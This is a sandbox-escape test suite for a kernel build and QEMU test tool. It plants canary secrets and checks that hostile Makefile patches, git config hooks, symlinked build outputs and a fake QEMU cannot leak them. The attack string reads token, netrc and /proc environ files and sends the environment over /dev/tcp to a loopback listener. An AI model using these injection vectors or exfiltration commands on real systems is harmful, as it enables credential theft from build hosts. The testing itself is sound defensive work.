// SPDX-License-Identifier: MIT
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmod, lstat, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { noSandbox } from '../unit/needs-sandbox.js';
import { folder, start, type Outcome } from './cli.js';
import { writeTree } from './tiny-tree.js';

// A token is planted wherever a user has one; everything that strangers give us looks for it, and tells it in every
// way that it can. What they found is looked for in the results, in files of the host and on the loopback.

const token = 'canary-d41d8cd98f00b204';
const secrets = {
  KCIDB_REST: `https://${token}@kcidb.example.org/`,
  LAVA_TOKEN: token,
  BUSYGUEST_LAVA_TOKEN: token,
  BMC_PASSWORD: token,
  AWS_SECRET_ACCESS_KEY: token,
};
const skip = noSandbox;

/** Where an attack takes place: a user's home with secrets, a tree, and an ear on the loopback. */
interface Place {
  readonly dir: string;
  readonly tree: string;
  readonly results: string;
  /** What an attack does, as a shell script in one line without single quotes; it prints all that it gets. */
  readonly attack: string;
  readonly run: (...args: string[]) => Promise<Outcome>;
  /** Fails where an attack got through. */
  readonly assertNothing: (outcome: Outcome) => Promise<void>;
}

async function place(context: TestContext, env: Record<string, string> = {}): Promise<Place> {
  const dir = await folder(context);
  const home = join(dir, 'home');
  await mkdir(home);
  for (const name of ['.token', '.netrc'])
    await writeFile(join(home, name), token, { mode: 0o600 });
  let heard = '';
  let connections = 0;
  const ear = createServer((socket) => {
    connections += 1;
    socket.on('data', (data) => (heard += data.toString())).on('error', () => {});
  }).listen(0, '127.0.0.1');
  context.after(() => ear.close());
  await once(ear, 'listening');
  const { port } = ear.address() as AddressInfo;
  const [tree, results, mark] = [join(dir, 'linux'), join(dir, 'results'), join(dir, 'mark')];
  const attack = [
    'echo uid $(id -u)',
    `env; cat ${home}/.token ${home}/.netrc /proc/*/environ 2>/dev/null | tr "\\0" "\\n"`,
    `bash -c "env > /dev/tcp/127.0.0.1/${port}" 2>/dev/null`,
    `echo got through >> ${mark}; echo got through >> ${tree}/Kconfig; chmod 777 ${dir} 2>/dev/null`,
  ].join('; ');
  return {
    dir,
    tree,
    results,
    attack,
    run: (...args) =>
      start(args, { ...secrets, HOME: home, BUSYGUEST_CACHE: join(dir, 'cache'), ...env }).ended,
    async assertNothing({ stdout, stderr }) {
      assert.ok(!`${stdout}${stderr}`.includes(token), `printed: ${stdout}${stderr}`);
      await assert.rejects(lstat(mark), 'a file of the host was written');
      assert.equal(await readFile(join(tree, 'Kconfig'), 'utf8'), '', 'the source was written');
      assert.equal(connections, 0, `on the loopback: ${heard}`);
      for (const root of [results, join(dir, 'cache')]) await assertNowhere(root);
      // In the cache a tree's own links are links, and lead nowhere in the cage.
      for (const name of await readdir(results, { recursive: true }).catch(() => [])) {
        const state = await lstat(join(results, name));
        if (state.isSymbolicLink()) assert.match(name, /^latest$/);
      }
    },
  };
}

/** No file of a folder holds the token. */
async function assertNowhere(root: string): Promise<void> {
  for (const name of await readdir(root, { recursive: true }).catch(() => [])) {
    const path = join(root, name);
    const state = await lstat(path);
    if (!state.isFile()) continue;
    assert.ok(!(await readFile(path, 'latin1')).includes(token), path);
  }
}

async function matrix({ dir, tree }: Place, kernel = ''): Promise<string> {
  const file = join(dir, 'm.yaml');
  await writeFile(
    file,
    `name: m
kernels: [{name: k, source: "${tree}", ${kernel}config: [./none.config]}]
devices: [qemu-pseries-p9]
tests: [{name: t, quota-us: 30000, period-us: 100000, seconds: 1}]
`,
  );
  await writeFile(join(dir, 'none.config'), '');
  return file;
}

/** A patch that puts lines before everything else in the Makefile. */
async function makefilePatch({ dir, tree }: Place, lines: readonly string[]): Promise<string> {
  const [first = ''] = (await readFile(join(tree, 'Makefile'), 'utf8')).split('\n');
  const added = lines.map((line) => `+${line}\n`).join('');
  const text = `Subject: innocent\n---\n--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,${lines.length + 1} @@\n${added} ${first}\n`;
  const path = join(dir, 'innocent.patch');
  await writeFile(path, text.replace('@@ -1 +1,', '@@ -1,1 +1,'));
  return path;
}

test('a series whose Makefile tells what it finds', { skip }, async (context) => {
  const here = await place(context);
  await writeTree(here.tree, 'touch $@');
  const lines = [
    `FOUND := $(shell ${here.attack.replaceAll('$', () => '$$')})`,
    '$(info error: $(FOUND))',
    '$(error error: $(KCIDB_REST) $(LAVA_TOKEN) $(BMC_PASSWORD) $(FOUND))',
  ];
  const patch = await makefilePatch(here, lines);
  const outcome = await here.run(
    'run',
    await matrix(here, `patches: ["${patch}"], `),
    '--results',
    here.results,
    '--quiet',
  );
  await here.assertNothing(outcome);
  const results = await readFile(join(here.results, 'latest', 'results.json'), 'utf8');
  // The attack ran, and had nothing to tell; it was not root.
  assert.match(results, /error:.* uid \d+/);
  assert.doesNotMatch(results, /uid 0\b/);
});

// Held by src/kernels/tree-file.ts: where that follows links, both of its readers give what a link leads to.
test('a build that puts links in place of what is read of it', { skip }, async (context) => {
  const here = await place(context);
  const secret = join(here.dir, 'home', '.token');
  const put = [
    '$(O)/vmlinux',
    '$(O)/System.map',
    '$(O)/include/config/kernel.release',
    '$(O)/.config',
  ];
  await writeTree(here.tree, put.map((file) => `ln -sf ${secret} ${file}`).join('; '));
  const outcome = await here.run('run', await matrix(here), '--results', here.results, '--quiet');
  await here.assertNothing(outcome);
});

test(
  'a tree with programs in its git config, and a min-tool-version.sh',
  { skip },
  async (context) => {
    const here = await place(context);
    await writeTree(here.tree, 'touch $@');
    const script = join(here.tree, 'scripts', 'min-tool-version.sh');
    await mkdir(join(here.tree, 'scripts'));
    await writeFile(script, `#!/bin/sh\n{ ${here.attack}; } >&2\necho 99.0.0\n`, { mode: 0o755 });
    await writeFile(join(here.tree, '.gitattributes'), '*.c filter=f diff=d\n');
    const program = join(here.tree, 'program');
    await writeFile(program, `#!/bin/sh\n{ ${here.attack}; } >&2\ncat\n`, { mode: 0o755 });
    const git = (...args: string[]): Buffer =>
      execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', ...args], {
        cwd: here.tree,
      });
    git('init', '-q');
    git('add', '-A');
    git('commit', '-qm', 'one');
    const config = {
      'core.fsmonitor': program,
      'filter.f.smudge': program,
      'filter.f.clean': program,
      'diff.d.textconv': program,
      'core.pager': program,
      'log.showSignature': 'true',
      'gpg.program': program,
    };
    for (const [name, value] of Object.entries(config)) git('config', name, value);
    const file = await matrix(here);
    for (const args of [
      ['plan', file],
      ['run', file, '--results', here.results, '--quiet'],
    ])
      await here.assertNothing(await here.run(...args));
  },
);

test('a repository that says it borrows from a folder with secrets', { skip }, async (context) => {
  const here = await place(context);
  await writeTree(here.tree, 'touch $@');
  const git = (...args: string[]): Buffer =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.org', ...args], {
      cwd: here.tree,
    });
  git('init', '-q');
  await writeFile(join(here.tree, '.gitattributes'), '*.c filter=f\n');
  git('add', '-A');
  git('commit', '-qm', 'one');
  await mkdir(join(here.tree, '.git/objects/info'), { recursive: true });
  await writeFile(join(here.tree, '.git/objects/info/alternates'), `${here.dir}/home\n`);
  git('config', 'filter.f.smudge', `sh -c 'cat; cat ${here.dir}/home/.token'`);
  const file = await matrix(here);
  await here.assertNothing(await here.run('run', file, '--results', here.results, '--quiet'));
});

// Held by linkFault() of src/kernels/tree-file.ts; unit kernels-patches fails without it, too.
test(
  'a patch that moves a link of the tree, to a secret and to what has no end',
  { skip },
  async (context) => {
    const here = await place(context);
    // What a link became is shown by the build.
    await writeTree(here.tree, 'echo "error: $$(head -c 99 l m)" >&2; false');
    const text = 'diff --git a/l b/m\nsimilarity index 100%\nrename from l\nrename to m\n';
    const patch = join(here.dir, 'link.patch');
    await writeFile(patch, text);
    for (const target of [join(here.dir, 'home', '.token'), '/dev/zero']) {
      await rm(join(here.tree, 'l'), { force: true });
      await symlink(target, join(here.tree, 'l'));
      const file = await matrix(here, `patches: ["${patch}"], `);
      const outcome = await here.run('run', file, '--results', here.results, '--quiet');
      await here.assertNothing(outcome);
      assert.match(outcome.stdout, /m: a symbolic link to\s+\S+,\s+which is outside\s+the tree/);
    }
  },
);

/** Tells what it sees as its console; what QEMU would answer to questions. */
const spyingQemu = (attack: string): string => `#!/bin/bash
case "$*" in
*--version*) echo "QEMU emulator version 10.0.2 (spy)" ;;
*"-sandbox"*"-M help"*) exit 1 ;;
*"-M help"*) echo "pseries x" ;;
*"-cpu help"*) echo "PowerPC POWER9" ;;
*"pseries,help"*) printf "  %s=x\\n" cap-nested-hv cap-cfpc cap-sbbc cap-ibs cap-ccf-assist ;;
*) { ${attack}; } 2>&1 ;;
esac
`;

test('a QEMU whose guest has broken out of it', { skip }, async (context) => {
  const here = await place(context);
  await writeTree(here.tree, 'echo kernel > $@');
  const qemu = join(here.dir, 'spy', 'qemu-system-ppc64');
  await mkdir(join(here.dir, 'spy'));
  await writeFile(qemu, spyingQemu(here.attack));
  await chmod(qemu, 0o755);
  const env = {
    ...secrets,
    HOME: join(here.dir, 'home'),
    BUSYGUEST_CACHE: join(here.dir, 'cache'),
    BUSYGUEST_QEMU: qemu,
  };
  const args = ['run', await matrix(here), '--results', here.results, '--quiet'];
  const outcome = await start(args, env).ended;
  const console = await readFile(
    join(here.results, 'latest', 'k-qemu-pseries-p9-t', 'console.log'),
    'utf8',
  );
  assert.match(console, /^uid [1-9]\d*$/m, outcome.stderr);
  await here.assertNothing(outcome);
});
